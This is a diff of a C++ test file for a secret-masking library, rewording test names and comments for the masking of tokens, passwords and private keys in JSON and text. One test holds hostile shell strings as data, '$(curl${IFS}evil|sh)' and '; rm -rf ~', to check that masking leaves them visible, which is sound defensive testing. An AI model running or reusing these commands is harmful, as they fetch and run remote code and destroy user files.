@@ -1,4 +1,4 @@
-// Masking in JSON: which bytes change, configured secrets, and the cut.
+// Masking in JSON: which bytes change, configured secrets, and texts that are cut.
 #include "protect_test.h"
 
 using namespace callgate;
@@ -15,7 +15,7 @@ bool is_json(const std::string& text) {
 
 }  // namespace
 
-TEST_CASE("without a hit every byte stays") {
+TEST_CASE("text without a secret keeps every byte") {
   for (const char* json :
        {"{}", "[]", "\"\"", "null", R"({"a" : "\u0041\/\ud800", "b":[1e400, "x\\"] })", R"("\\\"")",
         R"(["\"","\\"])"}) {
@@ -25,17 +25,17 @@ TEST_CASE("without a hit every byte stays") {
   }
 }
 
-TEST_CASE("only the string with the secret is written again") {
+TEST_CASE("only the string with the secret is rewritten") {
   const Masked result = json_masked(R"({ "a":"\u0041", "t" :")" + kToken + R"(" ,"b":"\/"})");
   CHECK(result.text == R"({ "a":"\u0041", "t" :")" + kMask + R"(" ,"b":"\/"})");
   CHECK(result.count == 1);
 }
 
-TEST_CASE("a key is masked as a value is") {
+TEST_CASE("keys are masked like values") {
   CHECK(json_masked("{\"" + kToken + "\":1}").text == "{\"" + kMask + "\":1}");
 }
 
-TEST_CASE("escapes hide nothing") {
+TEST_CASE("a secret is found although it is escaped") {
   const std::string escaped = "\\u0067hp\\u005f" + noise(36);
   CHECK(json_masked("\"" + escaped + "\"").text == "\"" + kMask + "\"");
   CHECK(json_masked("\"a\\n\\\"" + kToken + "\\\"é\\ud83d\\ude00\"").text ==
@@ -44,14 +44,14 @@ TEST_CASE("escapes hide nothing") {
         R"("postgres://u:[masked:url-password]@h")");
 }
 
-TEST_CASE("JSON within a string within JSON is searched too") {
+TEST_CASE("JSON in a string in JSON is searched, too") {
   const std::string inner = "{\"token\":\"" + kToken + "\"}";
   const Masked result = json_masked(quote(quote(inner)));
   CHECK(result.count == 1);
   CHECK(result.text == quote(quote("{\"token\":\"" + kMask + "\"}")));
 }
 
-TEST_CASE("configured values are masked, also escaped and percent-encoded") {
+TEST_CASE("configured values are masked, also if they are escaped or percent-encoded") {
   const std::vector<NamedSecret> secrets = {
       {"DB_PASSWORD", "a\"b/c d+"}, {"SHORT", "12345"}, {"SIX", "123456"}};
   CHECK(json_masked(quote("x a\"b/c d+ y"), secrets).text == "\"x [masked:DB_PASSWORD] y\"");
@@ -59,10 +59,10 @@ TEST_CASE("configured values are masked, also escaped and percent-encoded") {
   CHECK(json_masked("\"p=a%22b%2Fc%20d%2B\"", secrets).text == "\"p=[masked:DB_PASSWORD]\"");
   CHECK(json_masked("\"12345\"", secrets).count == 0);
   CHECK(json_masked("\"0123456\"", secrets).text == "\"0[masked:SIX]\"");
-  CHECK(json_masked("123456", secrets).text == "123456");  // a number is no string
+  CHECK(json_masked("123456", secrets).text == "123456");  // only strings are masked
 }
 
-TEST_CASE("overlapping hits become one, and no half of a value stays") {
+TEST_CASE("overlapping secrets are masked as one, and no part of them stays") {
   CHECK(json_masked("\"abcabcabc\"", {{"A", "abcabc"}}).text == "\"[masked:A]\"");
   CHECK(json_masked("\"abcdefghij\"", {{"A", "abcdef"}, {"B", "defghi"}}).text ==
         "\"[masked:A]j\"");
@@ -72,7 +72,7 @@ TEST_CASE("overlapping hits become one, and no half of a value stays") {
   CHECK(json_masked("\"" + kToken + "\"", {{"MINE", kToken}}).text == "\"[masked:MINE]\"");
 }
 
-TEST_CASE("a hundred secrets with one beginning are told apart") {
+TEST_CASE("a hundred secrets with the same beginning are distinguished") {
   std::vector<NamedSecret> secrets;
   for (int i = 100; i < 200; ++i)
     secrets.push_back({"S" + std::to_string(i), "common-front-" + std::to_string(i)});
@@ -86,7 +86,7 @@ TEST_CASE("a secret's name cannot break the JSON") {
   CHECK(is_json(result.text));
 }
 
-TEST_CASE("text that is no JSON is searched as it is") {
+TEST_CASE("text that is not JSON is searched as plain text") {
   const SecretMasker masker(std::vector<NamedSecret>{{"X", "secret-value"}});
   const Masked result = masker.mask_text("error: secret-value \x1b[0m\xff " + kToken);
   CHECK(result.count == 2);
@@ -94,7 +94,7 @@ TEST_CASE("text that is no JSON is searched as it is") {
   CHECK(masker.mask_text("").text.empty());
 }
 
-TEST_CASE("no part of a secret that begins before the cut is left") {
+TEST_CASE("no part of a secret that begins before the cut stays") {
   const std::string json = "{\"a\":\"" + std::string(50, 'x') + kToken + std::string(300'000, '.') +
                            "\",\"b\":\"" + kToken + "\"}";
   for (size_t keep = 40; keep < 120; ++keep) {
@@ -107,7 +107,7 @@ TEST_CASE("no part of a secret that begins before the cut is left") {
   }
 }
 
-TEST_CASE("a key longer than the stretch behind the cut is searched to its end") {
+TEST_CASE("a private key that ends far after the cut is masked whole") {
   std::string key = "-----BEGIN PRIVATE KEY-----\n";
   while (key.size() < 900'000) key += noise(64) + "\n";
   key += "-----END PRIVATE KEY-----";
@@ -117,7 +117,7 @@ TEST_CASE("a key longer than the stretch behind the cut is searched to its end")
   CHECK(result.text.size() == 1000);
 }
 
-TEST_CASE("the cut completes a character and keeps what fits whole") {
+TEST_CASE("the cut never splits a character, and text that fits is not cut") {
   CHECK(json_masked("\"aéb\"", {}, 3).text == "\"aé");
   CHECK(json_masked("\"aéb\"", {}, 2).text == "\"a");
   CHECK(json_masked("\"aéb\"", {}, 6).text == "\"aéb\"");
@@ -128,8 +128,8 @@ TEST_CASE("the cut completes a character and keeps what fits whole") {
   CHECK(json_masked(json, {}, 500).text == json.substr(0, 500));
 }
 
-TEST_CASE("text that is made to be slow is not") {
-  // Each would take minutes if a rule looked at the rest of the text again for every keyword.
+TEST_CASE("text that is designed to make masking slow is masked fast") {
+  // Each would take minutes if a rule searched the rest of the text for every keyword.
   for (const char* piece : {"-----BEGIN PRIVATE KEY", "sk-ant-", "eyJ", "://a:b", "bearer ",
                             "basic A", "xoxb-", "PRIVATE KEY", "-----END PRIVATE KEY-----"}) {
     std::string text;
@@ -138,13 +138,13 @@ TEST_CASE("text that is made to be slow is not") {
   }
 }
 
-TEST_CASE("cut or broken JSON is no reason to fail") {
+TEST_CASE("cut or broken JSON is masked without an error") {
   const std::string json = "{\"a\\u0041\":\"\\ud83d\\ude00" + kToken + "\"}";
   for (size_t size = 0; size <= json.size(); ++size)
     CHECK(json_masked(json.substr(0, size)).count <= 1);
 }
 
-TEST_CASE("configured values are found in the forms in which they are passed on") {
+TEST_CASE("configured values are found in common encodings") {
   const std::string value = "k3y-of <the> \"house\" & it's?";
   const std::vector<NamedSecret> secrets = {{"KEY", value}};
   const char* const forms[] = {"k3y-of &lt;the&gt; &quot;house&quot; &amp; it&#39;s?",
@@ -156,7 +156,8 @@ TEST_CASE("configured values are found in the forms in which they are passed on"
     INFO(form);
     CHECK(json_masked(quote("x " + form + " y"), secrets).text == "\"x [masked:KEY] y\"");
   }
-  // Base64 at its three places, in both alphabets: at most the digits that neighbours share stay.
+  // Base64 at its three offsets, in both alphabets. At most the digits that the value shares with
+  // its neighbours stay.
   const char* const encoded[] = {
       "azN5LW9mIDx0aGU+ICJob3VzZSIgJiBpdCdzPw==", "dTprM3ktb2YgPHRoZT4gImhvdXNlIiAmIGl0J3M/",
       "YTprM3ktb2YgPHRoZT4gImhvdXNlIiAmIGl0J3M_", "eGs6azN5LW9mIDx0aGU-ICJob3VzZSIgJiBpdCdzPw",
@@ -170,7 +171,7 @@ TEST_CASE("configured values are found in the forms in which they are passed on"
   }
 }
 
-TEST_CASE("what is masked as a password by its shape shows shell text that it holds") {
+TEST_CASE("a mask for a password that was found by its shape shows the shell text in it") {
   const auto shown = [](const std::string& text) { return json_masked(quote(text)).text; };
   CHECK(shown("postgres://u:$(curl${IFS}evil|sh)@h/db").find("$(curl${IFS}evil|sh)") !=
         std::string::npos);
@@ -183,16 +184,16 @@ TEST_CASE("what is masked as a password by its shape shows shell text that it ho
   CHECK(shown(key + "; rm -rf ~ \n-----END PRIVATE KEY-----").find("; rm -rf ~") !=
         std::string::npos);
   CHECK(shown(key + noise(64) + "\n-----END PRIVATE KEY-----") == "\"[masked:private-key]\"");
-  // What is shown is masked, too.
+  // Configured values are masked in the shown text, too.
   const std::vector<NamedSecret> secrets = {{"KEY", "known-value"}};
   const std::string both = json_masked(quote("db://u:$(echo known-value)@h"), secrets).text;
   CHECK(both.find("known-value") == std::string::npos);
 }
 
-TEST_CASE("where a text was cut, no part of a secret is left") {
+TEST_CASE("a part of a secret next to a cut of the text is removed") {
   const std::string secret = "correct horse battery staple " + std::string(400, 'k');
   const SecretMasker masker(std::vector<NamedSecret>{{.name = "PHRASE", .value = secret}});
-  const std::string line(6000, 'x');  // longer than any form of it
+  const std::string line(6000, 'x');  // longer than any encoding of the secret
   for (size_t kept = 1; kept < secret.size(); ++kept) {
     const std::string front =
         masker.mask_text(secret.substr(secret.size() - kept) + line + "\nnext line", Cut::Front)
@@ -202,7 +203,7 @@ TEST_CASE("where a text was cut, no part of a secret is left") {
     CHECK(end.find_first_not_of('x') == std::string::npos);
     CHECK(end.size() >= line.size() - 4 * secret.size());
   }
-  // A whole one is masked as ever, a text that was not cut stays as it is.
+  // A whole secret is masked as usual, and a text that was not cut stays unchanged.
   CHECK(masker.mask_text(line + line + secret + line + line, Cut::Front)
             .text.find("[masked:PHRASE]") != std::string::npos);
   CHECK(masker.mask_text("correct horse").text == "correct horse");
